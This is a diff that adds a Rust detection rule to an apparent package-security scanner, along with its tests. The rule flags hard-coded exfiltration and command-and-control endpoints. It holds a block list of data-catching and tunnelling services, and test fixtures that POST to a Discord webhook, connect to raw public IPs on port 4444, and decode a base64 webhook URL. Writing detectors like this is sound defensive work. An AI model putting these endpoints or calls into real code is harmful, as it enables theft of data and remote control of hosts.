@@ -1,0 +1,116 @@
+use std::sync::LazyLock;
+
+use aho_corasick::AhoCorasick;
+
+use crate::context::{FileContext, FileKind};
+use crate::report::{Confidence, Finding, Severity};
+use crate::rule::{Rule, RuleMeta, declare_rule};
+use crate::rules::{is_network_call, is_public_ipv4, matcher, url_host, values};
+
+/// Services used to receive stolen data or to run C2 (matched case-insensitively).
+const ENDPOINTS: &[&str] = &[
+    "webhook.site", "discord.com/api/webhooks", "discordapp.com/api/webhooks", "pastebin.com", "api.telegram.org",
+    "ngrok.io", "ngrok-free.app", "ngrok.app", "oast.fun", "oast.pro", "oast.live", "oast.site", "oast.online",
+    "oast.me", "oastify.com", "interact.sh", "burpcollaborator.net", "requestbin", "pipedream.net", "canarytokens",
+    "transfer.sh", "bashupload.com", "file.io", "hookbin.com", "beeceptor.com", "pipedream.com", "trycloudflare.com",
+    "serveo.net", "localtunnel.me", "loca.lt", "dnslog.cn", "ceye.io", "requestcatcher.com", "ipinfo.io", "ip-api.com",
+    "api.ipify.org", "ifconfig.me", "hastebin", "paste.ee", "rentry.co", "temp.sh", "workers.dev", "glitch.me",
+    "herokuapp.com", "repl.co", "000webhostapp.com",
+];
+/// The last few entries are lookup or hosting services: medium, not high.
+const MEDIUM_FROM: usize = 35;
+
+static ENDPOINT_MATCHER: LazyLock<Option<AhoCorasick>> = LazyLock::new(|| matcher(ENDPOINTS));
+
+declare_rule! {
+    /// ### What it does
+    /// Finds hard-coded exfiltration and C2 endpoints in string values: request catchers
+    /// (`webhook.site`, Burp/interactsh `oast.*`), Discord webhooks, Telegram bot API, paste
+    /// sites, tunnels (`ngrok`), and URLs or sockets pointing at raw public IP addresses. IP
+    /// lookup services and free hosting are medium; a raw-IP URL is high.
+    ///
+    /// ### Why is this bad?
+    /// Legitimate libraries talk to their vendor's API, not to a throwaway request bin or a
+    /// bare IP; these endpoints are where stolen tokens and host fingerprints are sent.
+    ///
+    /// ### Examples
+    /// Incorrect:
+    /// ```js
+    /// fetch('https://discord.com/api/webhooks/123/abc', { method: 'POST', body });
+    /// ```
+    /// Correct:
+    /// ```js
+    /// fetch('https://api.example-vendor.com/v1/items');
+    /// ```
+    ExfiltrationEndpoint, "exfiltration-endpoint", Network
+}
+
+impl Rule for ExfiltrationEndpoint {
+    fn meta(&self) -> &'static RuleMeta {
+        &Self::META
+    }
+
+    fn run_file(&self, file: &FileContext<'_>, out: &mut Vec<Finding>) {
+        if !matches!(file.kind, FileKind::Script | FileKind::ShellLike | FileKind::Manifest) {
+            return;
+        }
+        let Some(automaton) = ENDPOINT_MATCHER.as_ref() else { return };
+        let manifest_values;
+        let file_values = if file.kind == FileKind::Manifest {
+            manifest_values = file.manifest.map(|manifest| manifest.scripts.values().map(|script| crate::rules::Value { offset: file.text.find(script.as_str()).unwrap_or(0), text: script.as_str(), decoded: false }).collect::<Vec<_>>()).unwrap_or_default();
+            manifest_values
+        } else {
+            values(file)
+        };
+        for value in &file_values {
+            if value.text.len() > 4096 {
+                continue;
+            }
+            if let Some(found) = automaton.find(value.text) {
+                let index = found.pattern().as_usize();
+                let endpoint = ENDPOINTS.get(index).copied().unwrap_or_default();
+                let severity = if index >= MEDIUM_FROM { Severity::Medium } else { Severity::High };
+                out.push(file.finding(&Self::META, severity, Confidence::High, Some(value.offset), format!("hard-coded exfiltration/C2 endpoint `{endpoint}`"), None));
+                continue;
+            }
+            if let Some(host) = url_host(value.text)
+                && is_public_ipv4(host)
+            {
+                out.push(file.finding(&Self::META, Severity::High, Confidence::High, Some(value.offset), format!("URL with a raw IP address `{host}`"), None));
+            }
+        }
+        // `net.connect(port, '1.2.3.4')` and friends.
+        if let Some(facts) = file.js {
+            for call in facts.calls.iter().filter(|call| is_network_call(&call.callee)) {
+                if let Some(host) = call.arguments.iter().filter_map(|argument| argument.constant.as_deref()).find(|constant| is_public_ipv4(constant)) {
+                    out.push(file.finding(&Self::META, Severity::High, Confidence::High, Some(call.offset as usize), format!("connects to the raw IP address `{host}`"), None));
+                }
+            }
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::tester::test_rule;
+
+    #[test]
+    fn test() {
+        let pass = vec![
+            "fetch('https://api.example-vendor.com/v1/items');".into(),
+            "// see https://webhook.site for testing\nconst x = 1;".into(),
+            "const local = 'http://127.0.0.1:8080/'; const lan = 'http://192.168.1.1/';".into(),
+            "const version = '1.2.3.4';".into(),
+        ];
+        let fail = vec![
+            "fetch('https://discord.com/api/webhooks/123/abc', { method: 'POST' });".into(),
+            "const u = 'https://webhook.site/bb8ca5f6-4175';".into(),
+            "require('http').get('http://166.88.61.72/explorer/search.asp');".into(),
+            "const net = require('net'); net.connect(4444, '45.61.1.2');".into(),
+            "const host = 'dns1.abcdef.oast.fun';".into(),
+            "const u = atob('aHR0cHM6Ly93ZWJob29rLnNpdGUveA==');".into(),
+        ];
+        test_rule(ExfiltrationEndpoint::META.name, pass, fail);
+    }
+}
